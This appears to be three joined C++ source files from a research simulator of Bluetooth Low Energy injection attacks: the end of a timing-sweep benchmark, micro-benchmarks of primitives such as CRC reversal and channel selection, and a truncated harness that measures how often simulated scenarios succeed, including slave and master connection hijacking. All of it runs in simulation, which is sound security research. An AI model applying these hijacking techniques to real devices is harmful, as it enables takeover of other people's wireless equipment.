                ++corrupt;  // anchored on us, CRC failed
            } else {
                ++ok;
            }
        };
        (void)run_series(config);
        const int n = total.load();
        std::printf("%8d %9d %9.1f%% %11.1f%% %11.1f%% %9.1f%%\n", delay_us, n,
                    100.0 * ok.load() / n, 100.0 * corrupt.load() / n,
                    100.0 * master_won.load() / n, 100.0 * silent.load() / n);
    }
    std::printf(
        "\nExpected shape: a small delay (~10-30 us) wins the race (outcomes\n"
        "a/b); as the delay crosses the widening the legitimate master wins\n"
        "(outcome c dominates, success collapses to 0). D = 0 is the window\n"
        "EDGE: the slave's own receive window also opens w early, so firing\n"
        "exactly there races the slave's listen-start and half the frames are\n"
        "never heard — which is why the attacker keeps a small TX latency\n"
        "margin (paper §V-C transmits \"as soon as possible\", not earlier).\n"
        "Past the edge (D >= 40) residual successes come from desync chaos the\n"
        "repeated jam-like collisions cause, not from winning clean races.\n");
    return 0;
}
