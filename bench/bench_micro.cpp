// Micro-benchmarks (google-benchmark) for the hot primitives: the simulation
// runs millions of these per experiment, and the attacker-side primitives
// (CRC reversal, channel prediction) bound how fast real tooling can sync.
#include <benchmark/benchmark.h>

#include <memory>
#include <string>
#include <vector>

#include "common/rng.hpp"
#include "crypto/aes128.hpp"
#include "crypto/ccm.hpp"
#include "link/channel_selection.hpp"
#include "campaign/wire.hpp"
#include "obs/capture/capture.hpp"
#include "obs/metrics.hpp"
#include "obs/prof/profiler.hpp"
#include "obs/sinks.hpp"
#include "obs/telemetry.hpp"
#include "phy/crc.hpp"
#include "phy/frame.hpp"
#include "phy/whitening.hpp"
#include "sim/radio_device.hpp"
#include "sim/scheduler.hpp"
#include "world/experiment.hpp"
#include "world/world.hpp"

namespace {

using namespace ble;

void BM_Crc24(benchmark::State& state) {
    Bytes pdu(static_cast<std::size_t>(state.range(0)), 0x5A);
    for (auto _ : state) {
        benchmark::DoNotOptimize(phy::crc24(pdu, 0x555555));
    }
    state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_Crc24)->Arg(10)->Arg(27)->Arg(255);

void BM_Crc24Reverse(benchmark::State& state) {
    Bytes pdu(27, 0x5A);
    const std::uint32_t crc = phy::crc24(pdu, 0x123456);
    for (auto _ : state) {
        benchmark::DoNotOptimize(phy::crc24_reverse(pdu, crc));
    }
}
BENCHMARK(BM_Crc24Reverse);

void BM_Whitening(benchmark::State& state) {
    Bytes data(static_cast<std::size_t>(state.range(0)), 0xA5);
    for (auto _ : state) {
        phy::whiten(37, data);
        benchmark::DoNotOptimize(data.data());
    }
    state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_Whitening)->Arg(27)->Arg(255);

void BM_Aes128Encrypt(benchmark::State& state) {
    crypto::Aes128Key key{};
    key[0] = 0x42;
    const crypto::Aes128 aes(key);
    crypto::Aes128Block block{};
    for (auto _ : state) {
        block = aes.encrypt(block);
        benchmark::DoNotOptimize(block.data());
    }
}
BENCHMARK(BM_Aes128Encrypt);

void BM_CcmSeal(benchmark::State& state) {
    crypto::Aes128Key key{};
    const crypto::AesCcm ccm(key);
    crypto::CcmNonce nonce{};
    Bytes payload(static_cast<std::size_t>(state.range(0)), 0x77);
    const Bytes aad{0x02};
    for (auto _ : state) {
        benchmark::DoNotOptimize(ccm.seal(nonce, aad, payload));
    }
}
BENCHMARK(BM_CcmSeal)->Arg(27)->Arg(251);

void BM_Csa1(benchmark::State& state) {
    link::Csa1 csa(7, link::ChannelMap{});
    std::uint16_t counter = 0;
    for (auto _ : state) {
        benchmark::DoNotOptimize(csa.channel_for_event(counter++));
    }
}
BENCHMARK(BM_Csa1);

void BM_Csa2(benchmark::State& state) {
    link::Csa2 csa(0xAF9A9CD4, link::ChannelMap{});
    std::uint16_t counter = 0;
    for (auto _ : state) {
        benchmark::DoNotOptimize(csa.channel_for_event(counter++));
    }
}
BENCHMARK(BM_Csa2);

void BM_FrameRoundTrip(benchmark::State& state) {
    const Bytes pdu{0x0A, 0x09, 1, 2, 3, 4, 5, 6, 7, 8, 9};
    for (auto _ : state) {
        const auto frame = phy::make_air_frame(0xAF9A9CD4, pdu, 0x555555);
        benchmark::DoNotOptimize(phy::split_frame(frame.bytes));
    }
}
BENCHMARK(BM_FrameRoundTrip);

void BM_SchedulerChurn(benchmark::State& state) {
    for (auto _ : state) {
        sim::Scheduler scheduler;
        for (int i = 0; i < 1000; ++i) {
            // injectable-lint: allow(D4) -- churn bench measures the discard path
            (void)scheduler.schedule_at(i * 10, [] {});
        }
        scheduler.run_all();
        benchmark::DoNotOptimize(scheduler.now());
    }
    state.SetItemsProcessed(state.iterations() * 1000);
}
BENCHMARK(BM_SchedulerChurn);

// ---------------------------------------------------------------------------
// Observability overhead: the medium emits a TxStart + RxDecision pair per
// frame, so per-event dispatch cost bounds what always-on instrumentation
// costs a campaign.  Three rungs: a bare bus (emit() short-circuits on
// active()==false), the lock-free CounterSink, and the full MetricsSink
// (registry counters + log2 histograms).

obs::Event make_rx_event() {
    obs::RxDecision rx;
    rx.time = 1'000'000;
    rx.channel = 17;
    rx.verdict = obs::RxVerdict::kDelivered;
    rx.rssi_dbm = -61.5;
    return obs::Event(rx);
}

void BM_ObsEmitNoSinks(benchmark::State& state) {
    obs::EventBus bus;
    const obs::Event event = make_rx_event();
    for (auto _ : state) {
        bus.emit(event);
        benchmark::DoNotOptimize(bus.active());
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ObsEmitNoSinks);

void BM_ObsEmitCounterSink(benchmark::State& state) {
    obs::EventBus bus;
    obs::CounterSink counters;
    bus.attach(counters);
    const obs::Event event = make_rx_event();
    for (auto _ : state) {
        bus.emit(event);
    }
    benchmark::DoNotOptimize(counters.snapshot().rx_delivered);
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ObsEmitCounterSink);

void BM_ObsEmitMetricsSink(benchmark::State& state) {
    obs::EventBus bus;
    obs::MetricsRegistry registry;
    obs::MetricsSink metrics(registry);
    bus.attach(metrics);
    const obs::Event event = make_rx_event();
    for (auto _ : state) {
        bus.emit(event);
    }
    benchmark::DoNotOptimize(registry.snapshot().counters.size());
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ObsEmitMetricsSink);

void BM_PcapSinkFrame(benchmark::State& state) {
    // Per-frame cost of the omniscient capture sink (DESIGN.md §14): one
    // TxStart append — record construction plus the frame-byte copy.  This is
    // the marginal cost INJECTABLE_PCAP_DIR adds to every on-air frame.
    obs::EventBus bus;
    obs::capture::CaptureSink sink;
    bus.attach(sink);
    const std::vector<std::uint8_t> frame_bytes(26, 0x5A);  // 22B frame + AA
    obs::TxStart tx;
    tx.time = 1'000'000;
    tx.channel = 17;
    tx.sender = "phone";
    tx.bytes = frame_bytes;
    tx.duration = 176'000;
    tx.tx_power_dbm = 0.0;
    std::uint64_t tx_id = 0;
    for (auto _ : state) {
        tx.tx_id = tx_id++;
        bus.emit(obs::Event(tx));
    }
    benchmark::DoNotOptimize(sink.records().size());
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_PcapSinkFrame);

// ---------------------------------------------------------------------------
// Profiler-span overhead (DESIGN.md §9): every instrumented site pays one
// Span construction per event whether profiling is on or not, so the
// no-profiler rung must stay near-free and the enabled rung bounds what
// INJECTABLE_PROF=1 costs a campaign.  CI records these as BENCH_micro.json.

void BM_ProfSpanNoProfiler(benchmark::State& state) {
    // No Install in scope: the thread-local is null and the Span constructor
    // short-circuits — the everyone-pays-it path.
    for (auto _ : state) {
        obs::prof::Span span("bench.noop");
        benchmark::DoNotOptimize(&span);
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ProfSpanNoProfiler);

void BM_ProfSpanEnabled(benchmark::State& state) {
    // The realistic hot path: cached SpanSite ids, Chrome buffering off —
    // exactly what run_series installs under INJECTABLE_PROF=1 without a
    // Chrome trace dir.
    obs::prof::ProfilerParams params;
    params.chrome_trace = false;
    obs::prof::Profiler profiler(params);
    const obs::prof::Install install(&profiler);
    obs::prof::set_sim_now(1'000'000);
    static thread_local obs::prof::SpanSite outer_site{"bench.outer"};
    static thread_local obs::prof::SpanSite inner_site{"bench.inner"};
    for (auto _ : state) {
        obs::prof::Span outer(outer_site);
        obs::prof::Span inner(inner_site);
        benchmark::DoNotOptimize(&inner);
    }
    state.SetItemsProcessed(state.iterations() * 2);
}
BENCHMARK(BM_ProfSpanEnabled);

void BM_ProfSpanNamed(benchmark::State& state) {
    // Name-lookup slow path (a mutex-guarded global intern per Span) plus
    // Chrome-event buffering; the delta over BM_ProfSpanEnabled is what a
    // cached SpanSite saves.  Instrumented hot paths never use this form.
    obs::prof::Profiler profiler;
    const obs::prof::Install install(&profiler);
    obs::prof::set_sim_now(1'000'000);
    for (auto _ : state) {
        obs::prof::Span outer("bench.outer");
        obs::prof::Span inner("bench.inner");
        benchmark::DoNotOptimize(&inner);
    }
    state.SetItemsProcessed(state.iterations() * 2);
}
BENCHMARK(BM_ProfSpanNamed);

void BM_ProfSpanWall(benchmark::State& state) {
    obs::prof::ProfilerParams params;
    params.wall_clock = true;
    obs::prof::Profiler profiler(params);
    const obs::prof::Install install(&profiler);
    obs::prof::set_sim_now(1'000'000);
    for (auto _ : state) {
        obs::prof::Span span("bench.wall");
        benchmark::DoNotOptimize(&span);
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ProfSpanWall);

// ---------------------------------------------------------------------------
// Campaign telemetry (DESIGN.md §12): a worker compacts its merged
// MetricsSnapshot into the task-end telemetry frame, and every heartbeat
// pays one frame encode.  Both ride the hot result stream, so their cost
// bounds how cheap a heartbeat interval can be.

/// A registry shaped like a real trial's: a few dozen counters, a handful
/// of log2 histograms with spread-out samples.
obs::MetricsRegistry filled_registry() {
    obs::MetricsRegistry registry;
    for (int i = 0; i < 40; ++i) {
        registry.counter("bench.counter." + std::to_string(i)).add(i * 17 + 1);
    }
    for (int i = 0; i < 6; ++i) {
        auto& hist = registry.histogram("bench.hist." + std::to_string(i));
        for (int sample = 1; sample < 4096; sample *= 3) hist.record(sample);
    }
    return registry;
}

void BM_TelemetrySnapshot(benchmark::State& state) {
    const obs::MetricsRegistry registry = filled_registry();
    for (auto _ : state) {
        obs::WorkerTelemetry hb;
        obs::compact_snapshot(registry.snapshot(), hb);
        benchmark::DoNotOptimize(hb.counters.size());
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_TelemetrySnapshot);

void BM_TelemetryFrameEncode(benchmark::State& state) {
    const obs::MetricsRegistry registry = filled_registry();
    obs::WorkerTelemetry hb;
    hb.worker = 3;
    hb.task = 7;
    hb.t_ms = 123456789;
    hb.trials_done = 40;
    hb.trials_total = 125;
    hb.tx_frames = 512;
    hb.tx_bytes = 1 << 20;
    hb.final_snapshot = true;
    obs::compact_snapshot(registry.snapshot(), hb);
    std::uint64_t bytes = 0;
    for (auto _ : state) {
        const std::string frame = injectable::campaign::encode_telemetry(hb);
        bytes += frame.size();
        benchmark::DoNotOptimize(frame.data());
    }
    state.SetBytesProcessed(static_cast<std::int64_t>(bytes));
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_TelemetryFrameEncode);

void BM_TelemetryHeartbeatFrameEncode(benchmark::State& state) {
    // The periodic heartbeat: no snapshot, just progress + tx counters —
    // this is the frame workers send every heartbeat_ms.
    obs::WorkerTelemetry hb;
    hb.worker = 3;
    hb.task = 7;
    hb.t_ms = 123456789;
    hb.trials_done = 40;
    hb.trials_total = 125;
    hb.tx_frames = 512;
    hb.tx_bytes = 1 << 20;
    for (auto _ : state) {
        const std::string frame = injectable::campaign::encode_telemetry(hb);
        benchmark::DoNotOptimize(frame.data());
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_TelemetryHeartbeatFrameEncode);

void BM_SchedulerChurnProfiled(benchmark::State& state) {
    // BM_SchedulerChurn with a live profiler: the delta over the plain churn
    // bench is the per-dispatch cost of sim.dispatch span + queue gauge.
    obs::prof::Profiler profiler;
    const obs::prof::Install install(&profiler);
    for (auto _ : state) {
        sim::Scheduler scheduler;
        for (int i = 0; i < 1000; ++i) {
            // injectable-lint: allow(D4) -- churn bench measures the discard path
            (void)scheduler.schedule_at(i * 10, [] {});
        }
        scheduler.run_all();
        benchmark::DoNotOptimize(scheduler.now());
    }
    state.SetItemsProcessed(state.iterations() * 1000);
}
BENCHMARK(BM_SchedulerChurnProfiled);

void BM_InjectionTrialBaseline(benchmark::State& state) {
    // One full paper-style trial (connect + sniff + inject) with no profiler
    // installed — the reference for the ≤5% span-overhead budget below.
    injectable::world::ExperimentConfig config;
    config.name = "bench-micro-trial";
    config.max_attempts = 200;
    std::uint64_t seed = 7000;
    for (auto _ : state) {
        const auto result = injectable::world::run_injection_experiment(config, seed++);
        benchmark::DoNotOptimize(result.attempts);
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_InjectionTrialBaseline);

void BM_CaptureOmniscientTrial(benchmark::State& state) {
    // The identical trial with an omniscient CaptureSink attached and the
    // pcap image serialized per trial — what the captures channel
    // (INJECTABLE_PCAP_DIR) costs end to end.  Acceptance budget: within 3%
    // of BM_InjectionTrialBaseline; both land in BENCH_micro.json so CI can
    // diff the ratio across PRs.
    injectable::world::ExperimentConfig config;
    config.name = "bench-micro-trial";
    config.max_attempts = 200;
    std::shared_ptr<obs::capture::CaptureSink> sink;
    config.per_trial_sinks = [&sink](obs::EventBus& bus, std::uint64_t) {
        sink = std::make_shared<obs::capture::CaptureSink>();
        bus.attach(*sink);
    };
    std::uint64_t seed = 7000;
    for (auto _ : state) {
        const auto result = injectable::world::run_injection_experiment(config, seed++);
        benchmark::DoNotOptimize(result.attempts);
        const std::string pcap = sink->pcap_bytes();
        benchmark::DoNotOptimize(pcap.size());
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_CaptureOmniscientTrial);

void BM_InjectionTrialProfiled(benchmark::State& state) {
    // The identical trial with the INJECTABLE_PROF=1 profiler installed
    // (cached span sites, Chrome buffering off).  The acceptance budget:
    // this stays within 5% of BM_InjectionTrialBaseline, and both land in
    // BENCH_micro.json so CI can diff the ratio across PRs.
    injectable::world::ExperimentConfig config;
    config.name = "bench-micro-trial";
    config.max_attempts = 200;
    std::uint64_t seed = 7000;
    obs::prof::ProfilerParams params;
    params.chrome_trace = false;
    for (auto _ : state) {
        obs::prof::Profiler profiler(params);
        const obs::prof::Install install(&profiler);
        const auto result = injectable::world::run_injection_experiment(config, seed++);
        benchmark::DoNotOptimize(result.attempts);
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_InjectionTrialProfiled);


void BM_InjectionTrialProfiledReused(benchmark::State& state) {
    // Same trial with one long-lived profiler across iterations: the delta
    // against BM_InjectionTrialProfiled is the per-trial construction +
    // first-use cost, and against the baseline the pure marginal span cost.
    injectable::world::ExperimentConfig config;
    config.name = "bench-micro-trial";
    config.max_attempts = 200;
    std::uint64_t seed = 7000;
    obs::prof::ProfilerParams params;
    params.chrome_trace = false;
    obs::prof::Profiler profiler(params);
    const obs::prof::Install install(&profiler);
    for (auto _ : state) {
        const auto result = injectable::world::run_injection_experiment(config, seed++);
        benchmark::DoNotOptimize(result.attempts);
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_InjectionTrialProfiledReused);

// ---------------------------------------------------------------------------
// Crowded-spectrum engine (DESIGN.md §10).  BM_DenseWorldTransmit* is the
// honest A/B for the per-channel medium indexes: the same stadium-mix world
// scaled to N devices, pumped for one second of crowd traffic, with and
// without MediumParams::legacy_full_scan (the pre-refactor all-device /
// all-transmission walks).  Both paths are bit-identical by construction, so
// the ratio is pure index win.  CI records these in BENCH_micro.json.

injectable::world::WorldSpec dense_bench_spec(std::int64_t devices, bool legacy) {
    // Scale the stadium mix (580 devices at x1.0) to the requested count.
    auto spec = injectable::world::WorldSpec::stadium();
    spec.dense = spec.dense.scaled(static_cast<double>(devices) /
                                   static_cast<double>(spec.dense.device_count()));
    spec.medium_legacy_full_scan = legacy;
    spec.master_traffic_every_events = 0;  // crowd traffic only
    return spec;
}

void dense_world_pump(benchmark::State& state, bool legacy) {
    const auto spec = dense_bench_spec(state.range(0), legacy);
    for (auto _ : state) {
        injectable::world::World world(spec, 42);
        world.run_for(seconds(1));
        benchmark::DoNotOptimize(world.scheduler.now());
    }
    state.SetItemsProcessed(state.iterations() * state.range(0));
}

// The isolated A/B for the ≥5x acceptance claim: the pre-refactor medium
// walked EVERY attached device on every transmit (lock walk) and again on
// every finish (locked-receiver snapshot), listening or not.  Attach N idle
// crowd devices — the realistic dense case: most radios are not tuned to the
// transmit channel at any instant — and time one transmission end to end.
// The legacy variant pays 2xN pointer-chasing visits per frame; the indexed
// variant walks the (empty) per-channel interest list.  Everything else
// (scheduler dispatch, frame bookkeeping, GC) is identical by construction.

class IdleDevice final : public sim::RadioDevice {
public:
    using sim::RadioDevice::RadioDevice;
    void on_rx(const sim::RxFrame&) override {}
};

void dense_medium_walk(benchmark::State& state, bool legacy) {
    sim::Scheduler scheduler;
    sim::MediumParams params;
    params.legacy_full_scan = legacy;
    sim::PathLossParams pl;
    pl.fading_sigma_db = 0.0;
    sim::RadioMedium medium(scheduler, Rng(5), sim::PathLossModel(pl),
                            sim::CaptureModel{}, params);
    const auto n = static_cast<std::size_t>(state.range(0));
    std::vector<std::unique_ptr<IdleDevice>> crowd;
    crowd.reserve(n + 1);
    for (std::size_t i = 0; i <= n; ++i) {
        sim::RadioDeviceConfig cfg;
        cfg.name = "d" + std::to_string(i);
        cfg.position = {static_cast<double>(i % 32), static_cast<double>(i / 32)};
        crowd.push_back(std::make_unique<IdleDevice>(scheduler, medium, Rng(i), cfg));
    }
    sim::AirFrame frame;
    frame.bytes = Bytes(4, 0xA5);
    for (auto _ : state) {
        crowd[0]->transmit(7, frame);
        // Run well past the frame plus the GC horizon so active_ stays tiny:
        // what remains is the per-transmission walk cost under test.
        scheduler.run_for(milliseconds(20));
    }
    benchmark::DoNotOptimize(medium.active_transmissions());
    state.SetItemsProcessed(state.iterations());
}

void BM_DenseWorldMediumWalk(benchmark::State& state) { dense_medium_walk(state, false); }
BENCHMARK(BM_DenseWorldMediumWalk)->Arg(100)->Arg(500)->Arg(1000);

void BM_DenseWorldMediumWalkLegacyScan(benchmark::State& state) {
    dense_medium_walk(state, true);
}
BENCHMARK(BM_DenseWorldMediumWalkLegacyScan)->Arg(100)->Arg(500)->Arg(1000);

void BM_DenseWorldTransmit(benchmark::State& state) { dense_world_pump(state, false); }
BENCHMARK(BM_DenseWorldTransmit)->Arg(100)->Arg(500)->Arg(1000)->Unit(benchmark::kMillisecond);

void BM_DenseWorldTransmitLegacyScan(benchmark::State& state) {
    dense_world_pump(state, true);
}
BENCHMARK(BM_DenseWorldTransmitLegacyScan)
    ->Arg(100)
    ->Arg(500)
    ->Arg(1000)
    ->Unit(benchmark::kMillisecond);

void BM_DenseWorldTrial(benchmark::State& state) {
    // A full injection trial inside a busy office: the end-to-end cost of
    // attacking through a crowd, not just pumping one.
    injectable::world::ExperimentConfig config;
    config.name = "bench-dense-trial";
    config.max_attempts = 200;
    config.world = injectable::world::WorldSpec::office();
    std::uint64_t seed = 7500;
    for (auto _ : state) {
        const auto result = injectable::world::run_injection_experiment(config, seed++);
        benchmark::DoNotOptimize(result.attempts);
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DenseWorldTrial)->Unit(benchmark::kMillisecond);

void BM_SchedulerCancelChurn(benchmark::State& state) {
    // The calendar queue's O(1) cancel-and-erase path: schedule/cancel pairs
    // that a heap with tombstones would accumulate until dispatch.  Storage
    // stays bounded (see scheduler_test churn regression) and cancelled
    // entries never reach the dispatch loop.
    for (auto _ : state) {
        sim::Scheduler scheduler;
        for (int i = 0; i < 1000; ++i) {
            const auto id = scheduler.schedule_at(i * 10, [] {});
            scheduler.cancel(id);
        }
        scheduler.run_all();
        benchmark::DoNotOptimize(scheduler.storage_entries());
    }
    state.SetItemsProcessed(state.iterations() * 1000);
}
BENCHMARK(BM_SchedulerCancelChurn);

void BM_RngU64(benchmark::State& state) {
    Rng rng(1);
    for (auto _ : state) {
        benchmark::DoNotOptimize(rng.next_u64());
    }
}
BENCHMARK(BM_RngU64);

}  // namespace

BENCHMARK_MAIN();

// --- A/B micro-rungs for the crowded-spectrum refactor (twin copy lives in
// the pre-refactor baseline tree for interleaved comparison) ---------------
namespace {

class BenchIdleDevice final : public sim::RadioDevice {
public:
    using sim::RadioDevice::RadioDevice;
    void on_rx(const sim::RxFrame&) override {}
};

void BM_MediumListenChurn(benchmark::State& state) {
    sim::Scheduler scheduler;
    sim::PathLossParams pl;
    pl.fading_sigma_db = 0.0;
    sim::RadioMedium medium(scheduler, Rng(5), sim::PathLossModel(pl));
    std::vector<std::unique_ptr<BenchIdleDevice>> devs;
    for (int i = 0; i < 3; ++i) {
        sim::RadioDeviceConfig cfg;
        cfg.name = "d" + std::to_string(i);
        cfg.position = {static_cast<double>(i), 0.0};
        devs.push_back(std::make_unique<BenchIdleDevice>(scheduler, medium, Rng(i), cfg));
    }
    for (auto _ : state) {
        for (int i = 0; i < 1000; ++i) {
            devs[0]->listen(7);
            devs[0]->stop_listening();
        }
    }
    state.SetItemsProcessed(state.iterations() * 1000);
}
BENCHMARK(BM_MediumListenChurn);

void BM_MediumDeliverSmallWorld(benchmark::State& state) {
    sim::Scheduler scheduler;
    sim::PathLossParams pl;
    pl.fading_sigma_db = 0.0;
    sim::RadioMedium medium(scheduler, Rng(5), sim::PathLossModel(pl));
    std::vector<std::unique_ptr<BenchIdleDevice>> devs;
    for (int i = 0; i < 3; ++i) {
        sim::RadioDeviceConfig cfg;
        cfg.name = "d" + std::to_string(i);
        cfg.position = {static_cast<double>(i), 0.0};
        devs.push_back(std::make_unique<BenchIdleDevice>(scheduler, medium, Rng(i), cfg));
    }
    sim::AirFrame frame;
    frame.bytes = Bytes(16, 0xA5);
    for (auto _ : state) {
        devs[1]->listen(7);
        devs[2]->listen(7);
        devs[0]->transmit(7, frame);
        scheduler.run_for(ble::milliseconds(1));
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MediumDeliverSmallWorld);

}  // namespace

namespace {
void BM_SchedulerSparseHop(benchmark::State& state) {
    // Events 45 ms apart — one connection interval — the spacing a real
    // trial's scheduler actually sees.
    sim::Scheduler scheduler;
    for (auto _ : state) {
        for (int i = 0; i < 64; ++i) {
            // injectable-lint: allow(D4) -- churn bench measures the discard path
            (void)scheduler.schedule_after(static_cast<ble::Duration>(i) * 45'000'000, [] {});
        }
        scheduler.run_all();
        benchmark::DoNotOptimize(scheduler.now());
    }
    state.SetItemsProcessed(state.iterations() * 64);
}
BENCHMARK(BM_SchedulerSparseHop);
}  // namespace

namespace {
void BM_MediumDeliverObserved(benchmark::State& state) {
    // The deliver bench again, but with a live subscriber — the trial-time
    // configuration, where TxStart/RxDecision payloads are actually built.
    sim::Scheduler scheduler;
    sim::PathLossParams pl;
    pl.fading_sigma_db = 0.0;
    sim::RadioMedium medium(scheduler, Rng(5), sim::PathLossModel(pl));
    std::uint64_t seen = 0;
    obs::ScopedSubscription sub(medium.bus(),
                                [&seen](const obs::Event&) { ++seen; });
    std::vector<std::unique_ptr<BenchIdleDevice>> devs;
    for (int i = 0; i < 3; ++i) {
        sim::RadioDeviceConfig cfg;
        cfg.name = "d" + std::to_string(i);
        cfg.position = {static_cast<double>(i), 0.0};
        devs.push_back(std::make_unique<BenchIdleDevice>(scheduler, medium, Rng(i), cfg));
    }
    sim::AirFrame frame;
    frame.bytes = Bytes(16, 0xA5);
    for (auto _ : state) {
        devs[1]->listen(7);
        devs[2]->listen(7);
        devs[0]->transmit(7, frame);
        scheduler.run_for(ble::milliseconds(1));
    }
    benchmark::DoNotOptimize(seen);
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MediumDeliverObserved);
}  // namespace

namespace {
void BM_WorldConstruct(benchmark::State& state) {
    const injectable::world::WorldSpec spec = injectable::world::WorldSpec::paper_baseline();
    std::uint64_t seed = 1;
    for (auto _ : state) {
        injectable::world::World world(spec, seed++);
        benchmark::DoNotOptimize(world.scheduler.now());
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_WorldConstruct);
}  // namespace
