// Paper §VI: the four attack scenarios, run end-to-end 20 times each and
// validated against ground truth (device state / who stays connected). The
// paper reports these qualitatively ("successfully implemented for the three
// devices"); this harness adds measured success rates, attempt counts and
// time-to-takeover.
#include <cstdio>
#include <memory>
#include <optional>

#include "core/scenarios.hpp"
#include "experiment.hpp"
#include "gatt/builder.hpp"

namespace {

using namespace injectable;
using namespace injectable::bench;
using namespace ble;

struct ScenarioWorld {
    explicit ScenarioWorld(std::uint64_t seed)
        : rng(seed), medium(scheduler, rng.fork(), sim::PathLossModel{}) {
        host::PeripheralConfig p_cfg;
        p_cfg.name = "bulb";
        host::CentralConfig c_cfg;
        c_cfg.name = "phone";
        c_cfg.radio.position = {2.0, 0.0};
        c_cfg.radio.clock.sca_ppm = 30.0;
        c_cfg.declared_sca_ppm = 50.0;
        peripheral = std::make_unique<host::Peripheral>(scheduler, medium, rng.fork(), p_cfg);
        bulb.install(peripheral->att_server());
        central = std::make_unique<host::Central>(scheduler, medium, rng.fork(), c_cfg);
        sim::RadioDeviceConfig a_cfg;
        a_cfg.name = "attacker";
        a_cfg.position = {1.0, 1.732};
        attacker = std::make_unique<AttackerRadio>(scheduler, medium, rng.fork(), a_cfg);
    }

    bool establish_and_sync() {
        AdvSniffer sniffer(*attacker);
        std::optional<SniffedConnection> sniffed;
        sniffer.on_connection = [&](const SniffedConnection& conn,
                                    const link::ConnectReqPdu&) { sniffed = conn; };
        sniffer.start();
        peripheral->start();
        link::ConnectionParams params;
        params.hop_interval = 36;
        params.timeout = 300;
        central->connect(peripheral->address(), params);
        const TimePoint deadline = scheduler.now() + 5_s;
        while (scheduler.now() < deadline &&
               !(sniffed && central->connected() && peripheral->connected())) {
            if (!scheduler.run_one()) break;
        }
        sniffer.stop();
        if (!sniffed || !central->connected()) return false;
        session = std::make_unique<AttackSession>(*attacker, *sniffed);
        session->start();
        scheduler.run_until(scheduler.now() + 400_ms);
        return true;
    }

    template <typename Pred>
    bool run_until(Duration budget, Pred pred) {
        const TimePoint deadline = scheduler.now() + budget;
        while (scheduler.now() < deadline && !pred()) {
            if (!scheduler.run_one()) break;
        }
        return pred();
    }

    Rng rng;
    sim::Scheduler scheduler;
    sim::RadioMedium medium;
    std::unique_ptr<host::Peripheral> peripheral;
    std::unique_ptr<host::Central> central;
    std::unique_ptr<AttackerRadio> attacker;
    gatt::LightbulbProfile bulb;
    std::unique_ptr<AttackSession> session;
};

struct Row {
    int runs = 0;
    int success = 0;
    long total_attempts = 0;
    double total_takeover_ms = 0;
};

void print_row(const char* name, const Row& row) {
    std::printf("%-34s %5d/%-3d %10.1f %14.0f\n", name, row.success, row.runs,
                row.runs ? static_cast<double>(row.total_attempts) / row.success : 0.0,
                row.success ? row.total_takeover_ms / row.success : 0.0);
}

}  // namespace

int main() {
    std::printf("=== Attack scenarios A-D (paper §VI), 20 runs each ===\n\n");
    std::printf("%-34s %9s %10s %14s\n", "scenario", "success", "attempts",
                "takeover (ms)");

    constexpr int kRuns = 20;

    // Scenario A: illegitimate use of a device functionality.
    Row row_a;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9100 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_a.runs;
        const TimePoint t0 = world.scheduler.now();
        ScenarioA scenario(*world.session);
        std::optional<ScenarioA::Result> result;
        scenario.inject_write(world.bulb.control_handle(),
                              gatt::LightbulbProfile::cmd_set_power(false),
                              [&](const ScenarioA::Result& r) { result = r; });
        world.run_until(60_s, [&] { return result.has_value(); });
        if (result && result->success && !world.bulb.state().powered) {
            ++row_a.success;
            row_a.total_attempts += result->attempts;
            row_a.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("A: trigger feature (bulb off)", row_a);

    // Scenario B: slave hijack, validated by the forged Device Name read.
    Row row_b;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9200 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_b.runs;
        const TimePoint t0 = world.scheduler.now();
        att::AttServer fake;
        gatt::GattBuilder builder(fake);
        const auto name_handle = gatt::add_gap_service(builder, "Hacked");
        ScenarioB scenario(*world.session, fake);
        std::optional<ScenarioB::Result> result;
        scenario.execute([&](const ScenarioB::Result& r) { result = r; });
        world.run_until(60_s, [&] { return result.has_value(); });
        if (!result || !result->success) continue;
        std::optional<Bytes> name;
        world.central->gatt().read(name_handle,
                                   [&](std::optional<Bytes> v) { name = std::move(v); });
        world.run_until(5_s, [&] { return name.has_value(); });
        if (name && std::string(name->begin(), name->end()) == "Hacked" &&
            world.central->connected()) {
            ++row_b.success;
            row_b.total_attempts += result->attempts;
            row_b.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("B: slave hijack (serve 'Hacked')", row_b);

    // Scenario C: master hijack, validated by driving the bulb.
    Row row_c;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9300 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_c.runs;
        const TimePoint t0 = world.scheduler.now();
        ScenarioC scenario(*world.session);
        std::optional<ScenarioC::Result> result;
        scenario.execute([&](const ScenarioC::Result& r) { result = r; });
        world.run_until(120_s, [&] { return result.has_value(); });
        if (!result || !result->success) continue;
        bool wrote = false;
        scenario.hijacked_master()->client().write(
            world.bulb.control_handle(), gatt::LightbulbProfile::cmd_set_power(false),
